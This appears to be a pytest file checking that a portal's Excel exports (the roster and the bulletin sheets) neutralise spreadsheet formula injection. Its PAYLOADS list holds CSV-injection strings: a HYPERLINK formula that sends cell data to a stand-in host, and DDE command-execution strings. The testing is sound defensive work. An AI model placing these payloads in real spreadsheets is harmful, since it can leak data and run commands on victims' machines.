"""Spreadsheet formula injection (OWASP CSV injection): every text a user or an admin can type reaches the
exports (the roster, a bulletin's two sheets) as text, never as a live formula, and shows unchanged."""
import json
import re
from datetime import timedelta
from io import BytesIO
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy import String

from portal.bulletins.services import create_bulletin, publish_bulletin, resolve_window
from portal.extensions import db, utcnow
from portal.roster.services import OfficerData, RosterData, save_roster
from portal.scoring.adoptions import record_adoption
from portal.scoring.rulesets import find_active_rule_set
from portal.web.filters import local_day_start, to_local
from portal.web.xlsx import FORMULA_PREFIXES
from tests.conftest import login

# One payload per dangerous first character, and the attacks the outside test used.
PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A5,"点此")', "=cmd|' /C calc'!A0", "+1+1", "-1+1",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def payloads():
    """Endless payloads, each prefix in turn, numbered so every cell's text is its own."""
    number = 0
    while True:
        for payload in PAYLOADS:
            number += 1
            yield f"{payload}{number}"


def fill_text_columns(row, typed, skip=()) -> list[str]:
    """Every string column of a stored row set to a payload, as if stored before any check existed;
    a payload longer than the column keeps its dangerous start and its number."""
    written = []
    for column in row.__table__.columns:
        if isinstance(column.type, String) and not column.foreign_keys and column.key not in skip:
            value = next(typed)
            if len(value) > column.type.length:
                value = value[:2] + value[len(value.rstrip("0123456789")):]
            setattr(row, column.key, value)
            written.append(value)
    return written


def read_back(response) -> dict[str, list]:
    """sheet name -> its cells, read with openpyxl."""
    assert response.status_code == 200
    book = load_workbook(BytesIO(response.data))
    return {sheet.title: [cell for row in sheet.iter_rows() for cell in row] for sheet in book.worksheets}


def assert_written_as_text(sheets: dict[str, list], typed: list[str]) -> None:
    cells = [cell for sheet in sheets.values() for cell in sheet]
    formulas = [f"{cell.parent.title}!{cell.coordinate} {cell.value!r}" for cell in cells if cell.data_type == "f"]
    assert not formulas, f"formulas in the export: {formulas}"
    texts = {cell.value: cell for cell in cells if cell.data_type == "s" and isinstance(cell.value, str)}
    for value in typed:
        shown = [text for text in texts if value.strip() in text]  # a cell may show the text trimmed
        assert shown, f"{value!r} is missing from the export"
        for text in shown:
            assert not text.startswith(FORMULA_PREFIXES) or texts[text].quotePrefix, f"{text!r} without quote prefix"


def test_every_text_column_of_the_roster_export_is_text(app, make, world):
    typed = payloads()
    unit = make.unit(next(typed), parent=world.office)
    author = make.user(unit, "reporter")
    roster = save_roster(author, unit, RosterData(leader_name="张建国", leader_position="党委副书记", officers=[
        OfficerData("李晓燕", mobile="13804311234"), OfficerData("陈志强", mobile="13604315678")]))
    db.session.flush()
    written = [unit.name, *fill_text_columns(roster, typed)]
    for officer in roster.officers:
        # employment is a choice shown as 专职/兼职, never the stored text
        written += fill_text_columns(officer, typed, skip={"employment"})
    db.session.commit()
    client = app.test_client()
    login(client, world.editor)
    assert_written_as_text(read_back(client.get("/roster/export.xlsx")), written)


@pytest.mark.calendar
def test_every_text_column_of_a_bulletin_export_is_text(app, make, world):
    typed = payloads()
    first = to_local(utcnow()).date().replace(day=1) - timedelta(days=1)
    first = first.replace(day=1)
    rule_set = find_active_rule_set()
    rules = json.loads(rule_set.data)
    channel_name, body_name = next(typed), next(typed)
    rules["channels"]["cpc_main"]["name"] = channel_name
    rules["body_names"][rules["channels"]["cpc_main"]["body"]] = body_name
    rule_set.data = json.dumps(rules, ensure_ascii=False)
    rule_set.period_start, rule_set.period_end = first - timedelta(days=60), first + timedelta(days=90)
    unit = make.unit(next(typed), parent=world.office)
    reporter, signer = make.user(unit, "reporter"), make.user(unit, "signer")
    item = make.item(reporter, "submitted", signer=signer, editor=world.editor, title=next(typed))
    item.submitted_at = local_day_start(first + timedelta(days=3))
    record_adoption(item.id, "cpc_main", first + timedelta(days=4), world.editor.id)
    db.session.commit()
    with app.test_request_context(method="POST"):
        bulletin = create_bulletin(world.editor, resolve_window("month", first.year, first.month))
        bulletin.title = next(typed)
        publish_bulletin(world.editor, bulletin)
    db.session.commit()
    client = app.test_client()
    login(client, world.reporter)
    sheets = read_back(client.get(f"/bulletins/{bulletin.id}.xlsx"))
    assert_written_as_text(sheets, [unit.name, item.title, channel_name, body_name, bulletin.title])
    # Figures stay numbers: the unit's line in the ranking counts one adoption.
    assert any(isinstance(cell.value, int) and cell.data_type == "n" for cell in sheets["排名"])


def test_no_export_writes_a_cell_but_through_put_cell():
    """A new export cannot bypass put_cell: outside portal/web/xlsx.py no code gives a cell a value."""
    portal = Path(__file__).parents[2] / "portal"
    writes = re.compile(r"\.cell\([^()]*,[^()]*,|\.value\s*=|sheet\.append\(")
    offenders = [f"{path.relative_to(portal)}:{number}" for path in portal.rglob("*.py")
                 if path.name != "xlsx.py" and "openpyxl" in (text := path.read_text(encoding="utf-8"))
                 for number, line in enumerate(text.splitlines(), start=1) if writes.search(line)]
    assert not offenders, f"cells written without put_cell: {offenders}"
